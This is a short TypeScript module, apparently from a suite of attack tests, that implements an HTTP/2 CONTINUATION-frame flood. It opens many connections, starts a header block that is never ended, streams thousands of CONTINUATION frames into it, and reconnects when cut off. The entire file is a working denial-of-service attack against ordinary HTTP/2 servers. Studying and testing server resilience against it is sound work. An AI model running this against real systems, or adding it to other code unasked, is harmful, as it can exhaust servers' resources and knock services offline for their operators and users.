import { type Attack, dialFrom, keepSending } from "../support/attack.ts";
import { frame, PREFACE, SETTINGS } from "../support/raw-frames.ts";

const CONNECTIONS = 20;
const CONTINUATIONS = Buffer.concat(
  Array.from({ length: 500 }, () => frame(9, 0, 1, Buffer.from([0x00, 0x01, 0x61, 0x01, 0x62]))),
);

/** Begins headers that never end; comes again when it is cut. */
export const attack: Attack = {
  title: "headers of CONTINUATION frames without an end",
  async run({ address, from }) {
    const begin = (each: string) => {
      const socket = dialFrom(address, each);
      socket.resume();
      socket.write(Buffer.concat([PREFACE, SETTINGS, frame(1, 0, 1, Buffer.from([0x83]))]));
      return socket;
    };
    const places = from.flatMap((each) => Array.from({ length: CONNECTIONS }, () => each));
    await keepSending(places, begin, CONTINUATIONS);
  },
};
